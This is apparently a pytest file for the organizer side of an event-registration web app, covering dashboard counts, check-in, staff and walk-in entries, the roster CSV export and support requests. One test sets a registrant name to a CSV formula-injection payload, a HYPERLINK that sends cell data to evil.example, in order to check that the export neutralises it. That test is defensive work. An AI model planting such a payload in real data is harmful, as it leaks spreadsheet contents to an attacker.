"""Registration as the organizer sees it: the dashboard's counts, answering requests, check-in, staff
entries and walk-ins, change requests, the roster CSV, limited support places and the "to arrange" list."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

from bs4 import BeautifulSoup

from sessions import scheduling, store
from sessions.catalog import ACCOMMODATIONS
from sessions.models import AccommodationOffer, SessionUpdate
from tests.harness import TOKYO, html, make_session, next_saturday
from tests.registration_helpers import (
    CHILD_NOTE, SUPPORT_NOTE, childcare, count, form_data, ja, ja_plural, list_items, organizer, outbox, past, person,
    register_form, registered, row_id, text_of, token_of, upcoming,
)
from tests.registration_helpers import settings  # noqa: F401 - fixtures, used by name


# ---------------------------------------------------------------- the organizer's dashboard

async def test_dashboard_counts_seats_children_by_age_and_support_with_deadline(client, db):
    account, venue = await organizer(client, db)
    start = next_saturday(weeks=3)
    deadline = (start - timedelta(days=10)).replace(hour=23, minute=59, second=59, tzinfo=TOKYO)
    session_id = await make_session(
        db, account.org_id, venue, starts_at=start, format="hybrid", capacity_in_person=1, capacity_online=2,
        online_url="https://meet.example.jp/taiwa", childcare=childcare(places=3, min_age_months=0, max_age_months=120),
        accommodations=[AccommodationOffer(code="sign_language", mode="on_request", deadline=deadline)])
    await registered(client, session_id, **person(1), mode="in_person", consent_sensitive=True,
                     children=[{"age_months": 12}, {"age_months": 36}], accommodations=[{"code": "sign_language"}])
    await registered(client, session_id, **person(2), mode="in_person")
    await registered(client, session_id, **person(3), mode="online")
    leaving = await registered(client, session_id, **person(4), mode="online")
    await client.delete(f"/api/registrations/{leaving['token']}")

    page = html(await client.get(f"/organize/sessions/{session_id}/registrations"))

    in_person = text_of(page.select_one("#seats-in_person").find_parent("section"))
    online = text_of(page.select_one("#seats-online").find_parent("section"))
    for section, (confirmed, total, waitlisted, cancelled) in ((in_person, (1, 1, 1, 0)), (online, (1, 2, 0, 1))):
        assert ja("Confirmed: %(n)d / %(total)d", n=confirmed, total=total) in section
        assert ja("Waitlisted: %(n)d", n=waitlisted) in section
        assert ja("Cancelled: %(n)d", n=cancelled) in section
    bands = {text_of(row.th): text_of(row.td) for row in page.select("#childcare-totals ~ table tbody tr")}
    assert list(bands.values()) == ["1", "1", "0", "0"]
    assert [re.sub(r"\D+", "-", band).strip("-") for band in bands] == ["0-1", "2-3", "4-6", "7"]
    [support] = [text_of(li) for li in page.select("#arrange-title ~ ul li")]
    assert ja(ACCOMMODATIONS["sign_language"]) in support
    assert ja_plural("%(num)d request", "%(num)d requests", 1) in support
    assert f"{deadline.month}月{deadline.day}日" in support


async def test_answering_a_request_shows_on_the_registrants_page_and_queues_a_mail(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue,
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    token = (await registered(client, session_id, **person(1), accommodations=[{"code": "sign_language"}],
                              consent_sensitive=True))["token"]

    roster = html(await client.get(f"/organize/sessions/{session_id}/registrations"))
    [answer_form] = roster.select('form[action^="/organize/requests/"]')
    sent = await client.post(answer_form["action"], follow_redirects=False,
                             data={**form_data(answer_form), "status": "confirmed", "message": "通訳者2名を手配しました"})

    assert sent.status_code == 303
    [support] = list_items(await client.get(f"/r/{token}"), ja("Support requested"))
    assert ja("Arranged") in support and "通訳者2名を手配しました" in support
    assert [row["registration_id"] for row in await outbox(db, "accommodation_changed")] == [
        await row_id(db, "person1@example.jp")]


async def test_check_in_by_htmx_returns_only_the_updated_row(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    await registered(client, session_id, **person(1))
    registration_id = await row_id(db, "person1@example.jp")
    roster = html(await client.get(f"/organize/sessions/{session_id}/registrations"))
    form = roster.select_one(f"#roster-{registration_id} form.checkin-form")

    checked = await client.post(form["hx-post"], data=form_data(form), headers={"HX-Request": "true"})
    unchecked = await client.post(form["hx-post"], data=form_data(form), headers={"HX-Request": "true"})

    fragment = BeautifulSoup(checked.text, "html.parser")
    assert checked.status_code == 200 and fragment.find("html") is None and fragment.find("nav") is None
    assert [row["id"] for row in fragment.find_all("tr")] == [f"roster-{registration_id}"]
    assert fragment.select_one("button")["aria-pressed"] == "true"
    assert BeautifulSoup(unchecked.text, "html.parser").select_one("button")["aria-pressed"] == "false"


async def test_check_in_without_htmx_comes_back_to_the_roster(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    await registered(client, session_id, **person(1))
    registration_id = await row_id(db, "person1@example.jp")
    roster = html(await client.get(f"/organize/sessions/{session_id}/registrations"))
    form = roster.select_one(f"#roster-{registration_id} form.checkin-form")

    back = await client.post(form["action"], data=form_data(form))

    assert back.url.path == f"/organize/sessions/{session_id}/registrations"
    assert html(back).select_one(f"#roster-{registration_id} button")["aria-pressed"] == "true"


async def test_staff_entry_follows_the_same_capacity_rules_and_is_marked(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=1)
    await registered(client, session_id, **person(1))
    entry_page = html(await client.get(f"/organize/sessions/{session_id}/registrations/new"))
    form = entry_page.select_one(f'form[action="/organize/sessions/{session_id}/registrations/new"]')

    roster = await client.post(form["action"], data={**form_data(form), "name": "電話 太郎", "phone": "076-220-0000"})

    assert roster.url.path == f"/organize/sessions/{session_id}/registrations"
    row = await db.fetch_one("select id, status, staff_entered from registrations where name = '電話 太郎'")
    assert (row["status"], row["staff_entered"]) == ("waitlisted", 1)
    shown = html(roster).select_one(f"#roster-{row['id']}")
    assert ja("Entered by staff") in text_of(shown.th)
    assert "status--waitlisted" in shown.select_one(".status")["class"] and "(1)" in text_of(shown)


async def test_staff_can_enter_a_walk_in_after_online_registration_closed(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    session = await store.get_session(db, session_id)
    await scheduling.patch_session(db, session, SessionUpdate(registration_closes_at=past(1)))
    entry_page = html(await client.get(f"/organize/sessions/{session_id}/registrations/new"))
    form = entry_page.select_one(f'form[action="/organize/sessions/{session_id}/registrations/new"]')

    roster = await client.post(form["action"], data={**form_data(form), "name": "当日 参加者", "phone": "076-220-0001"})

    assert roster.url.path == f"/organize/sessions/{session_id}/registrations"
    row = await db.fetch_one("select status, staff_entered from registrations")
    assert tuple(row) == ("confirmed", 1)


async def test_staff_cannot_add_registrations_to_a_cancelled_session(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    entry_page = html(await client.get(f"/organize/sessions/{session_id}/registrations/new"))
    form = entry_page.select_one(f'form[action="/organize/sessions/{session_id}/registrations/new"]')
    await scheduling.cancel_session(db, await store.get_session(db, session_id), "台風のため")

    answer = await client.post(form["action"], data={**form_data(form), "name": "当日 参加者", "phone": "076-220-0001"})

    assert ja("This session does not take registrations.") in text_of(html(answer).select_one(".error-summary"))
    assert await count(db, "registrations") == 0


async def test_change_request_from_the_registrant_reaches_the_organizer(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    token = (await registered(client, session_id, **person(1)))["token"]
    own = html(await client.get(f"/r/{token}"))
    form = own.select_one(f'form[action="/r/{token}/change"]')

    sent = await client.post(form["action"], data={**form_data(form), "message": "子どもの年齢は3歳でした"})

    assert sent.url.path == f"/r/{token}" and sent.url.params.get("sent") == "1"
    roster = html(await client.get(f"/organize/sessions/{session_id}/registrations"))
    assert "子どもの年齢は3歳でした" in text_of(roster.select_one("#changes-title").find_parent("section"))


async def test_roster_csv_opens_in_excel_with_one_row_per_registration(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare(),
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    await registered(client, session_id, **person(1), children=[{"age_months": 40, "notes": CHILD_NOTE}],
                     accommodations=[{"code": "sign_language", "note": SUPPORT_NOTE}], consent_sensitive=True)
    await registered(client, session_id, **person(2))

    answer = await client.get(f"/organize/sessions/{session_id}/registrations.csv")

    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    header, *rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    by_column = [dict(zip(header, row)) for row in rows]
    assert [row[ja("Email address")] for row in by_column] == ["person1@example.jp", "person2@example.jp"]
    assert CHILD_NOTE in by_column[0][ja("Childcare")]
    assert SUPPORT_NOTE in by_column[0][ja("Support requested")]
    assert by_column[1][ja("Childcare")] == "" and by_column[1][ja("Support requested")] == ""


async def test_roster_csv_does_not_turn_a_registrants_text_into_a_formula(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue)
    await registered(client, session_id, name='=HYPERLINK("https://evil.example/?leak="&F2,"詳細")',
                     email="mallory@example.jp")

    answer = await client.get(f"/organize/sessions/{session_id}/registrations.csv")

    _header, row = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


async def test_support_with_limited_places_is_refused_once_fully_booked(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue,
                                accommodations=[AccommodationOffer(code="wheelchair_space", mode="always", capacity=1)])
    first = await register_form(client, session_id, **person(1), acc_wheelchair_space="1", consent_sensitive="1")

    second = await register_form(client, session_id, **person(2), acc_wheelchair_space="1", consent_sensitive="1")

    assert token_of(first)
    assert ja("This support is fully booked. Please contact the organizer.") in text_of(
        html(second).select_one("#err-accommodations-wheelchair_space"))
    assert await count(db, "registrations") == 1


async def test_to_arrange_lists_open_requests_soonest_deadline_first(client, db):
    account, venue = await organizer(client, db)
    later = await upcoming(db, account.org_id, venue, title="防災ワークショップ", starts_at=next_saturday(weeks=5),
                           accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    sooner = await upcoming(db, account.org_id, venue, title="子育て対話の場", starts_at=next_saturday(weeks=3),
                            childcare=childcare())
    other, other_venue = await organizer(client, db, "staff@toyama.example", org="toyama", signed_in=False)
    elsewhere = await upcoming(db, other.org_id, other_venue, title="よその会議",
                               accommodations=[AccommodationOffer(code="captioning", mode="on_request")])
    await registered(client, later, **person(1), accommodations=[{"code": "sign_language"}], consent_sensitive=True)
    await registered(client, sooner, **person(2), children=[{"age_months": 30}], consent_sensitive=True)
    await registered(client, elsewhere, **person(3), accommodations=[{"code": "captioning"}], consent_sensitive=True)

    page = html(await client.get("/organize/arrange"))

    linked = [a["href"] for a in page.select("tbody tr a")]
    assert linked == [f"/organize/sessions/{sooner}/registrations", f"/organize/sessions/{later}/registrations"]
